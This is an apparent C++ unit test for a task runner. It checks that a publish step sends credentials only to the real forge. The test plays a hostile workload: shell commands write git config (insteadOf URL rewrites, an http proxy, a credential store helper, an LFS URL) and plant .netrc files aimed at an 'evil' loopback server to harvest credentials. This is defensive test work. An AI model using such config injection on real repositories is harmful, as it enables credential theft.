// Who is asked for credentials, and for whom: the operator's helper, for the lease's address alone.
#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>

#include <atomic>
#include <filesystem>
#include <string>
#include <thread>

#include "absl/strings/str_cat.h"
#include "gmock/gmock.h"
#include "gtest/gtest.h"
#include "tests/unit/workers/task_runner/change_fixture.h"
#include "workers/task_runner/file_descriptor.h"

namespace fleet::runner {
namespace {

using ::testing::HasSubstr;
using ::testing::Not;
namespace fs = std::filesystem;

// An HTTP server that wants a password and takes none.
class LockedServer {
 public:
  LockedServer() : listener_(socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0)) {
    sockaddr_in address{};
    address.sin_family = AF_INET;
    address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    socklen_t size = sizeof(address);
    EXPECT_EQ(bind(listener_.get(), reinterpret_cast<sockaddr*>(&address), size), 0);
    EXPECT_EQ(getsockname(listener_.get(), reinterpret_cast<sockaddr*>(&address), &size), 0);
    EXPECT_EQ(listen(listener_.get(), 16), 0);
    port_ = ntohs(address.sin_port);
    thread_ = std::thread([this] { Serve(); });
  }
  ~LockedServer() {
    shutdown(listener_.get(), SHUT_RDWR);
    thread_.join();
  }
  LockedServer(const LockedServer&) = delete;
  LockedServer& operator=(const LockedServer&) = delete;

  std::string host() const { return absl::StrCat("127.0.0.1:", port_); }
  int requests() const { return requests_; }

 private:
  void Serve() {
    while (true) {
      const FileDescriptor peer(accept4(listener_.get(), nullptr, nullptr, SOCK_CLOEXEC));
      if (!peer.is_open()) return;
      std::string request;
      char buffer[4096];
      while (request.find("\r\n\r\n") == std::string::npos) {
        const ssize_t length = read(peer.get(), buffer, sizeof(buffer));
        if (length <= 0) break;
        request.append(buffer, static_cast<std::size_t>(length));
      }
      ++requests_;
      const std::string answer =
          "HTTP/1.1 401 Unauthorized\r\nWWW-Authenticate: Basic realm=\"r\"\r\nContent-Length: 0\r\n"
          "Connection: close\r\n\r\n";
      [[maybe_unused]] const ssize_t written = write(peer.get(), answer.data(), answer.size());
    }
  }

  FileDescriptor listener_;
  int port_ = 0;
  std::atomic<int> requests_ = 0;
  std::thread thread_;
};

class CredentialsAttackTest : public ChangeFixture {};

TEST_F(CredentialsAttackTest, TheHelperIsAskedForTheLeasesAddressOnly) {
  LockedServer forge;
  LockedServer evil;
  const std::string asked = fixture_.directory() / "asked";
  const std::string helper = fixture_.directory() / "helper";
  WriteFile(helper, absl::StrCat("#!/bin/sh\n{ echo \"# $1\"; cat; } >> ", asked,
                                 "\n[ $1 = get ] && printf 'username=u\\npassword=precious\\n'\nexit 0\n"));
  fs::permissions(helper, fs::perms::owner_all);
  settings_.config_file = fixture_.directory() / "operator";
  WriteFile(settings_.config_file, absl::StrCat("[credential]\n\thelper = ", helper, "\n"));
  settings_.protocols = {"file", "http"};
  Clone(fixture_.MakeRepository("r", {{"a", "a\n"}}));
  // As if it had come from there.
  clone_->request.clone_url = absl::StrCat("http://", forge.host(), "/r.git");
  Step(absl::StrCat(
      "echo changed > a\n"
      "printf '[url \"http://",
      evil.host(), "/\"]\\n\\tinsteadOf = http://\\n\\tpushInsteadOf = http://\\n' > ../c\n",
      "printf '[http]\\n\\tproxy = http://", evil.host(), "\\n[credential]\\n\\thelper = store --file=", asked,
      "-2\\n' >> ../c\nprintf '[lfs]\\n\\turl = http://", evil.host(), "/\\n' | tee .lfsconfig >> ../c\n",
      "mkdir -p ../git/home \"$HOME\"; for f in .git/config ../store/config ../git/config ../git/home/.gitconfig ",
      "\"$HOME/.gitconfig\"; do cat ../c >> $f; done\n",
      "printf 'machine 127.0.0.1\\nlogin evil\\npassword evil\\n' | tee ../git/home/.netrc > \"$HOME/.netrc\""));
  const absl::Status status = Publish().status();
  EXPECT_EQ(ToFailure(status).category(), v1::FAILURE_CATEGORY_AUTH) << status;
  const std::string text = ReadFile(asked);
  EXPECT_THAT(text, HasSubstr(absl::StrCat("# get\nprotocol=http\nhost=", forge.host())));
  EXPECT_THAT(text, Not(HasSubstr(evil.host())));
  EXPECT_GE(forge.requests(), 2);
  EXPECT_EQ(evil.requests(), 0);
  EXPECT_FALSE(fs::exists(asked + "-2"));
  EXPECT_THAT(std::string(status.message()), Not(HasSubstr("precious")));
}

}  // namespace
}  // namespace fleet::runner
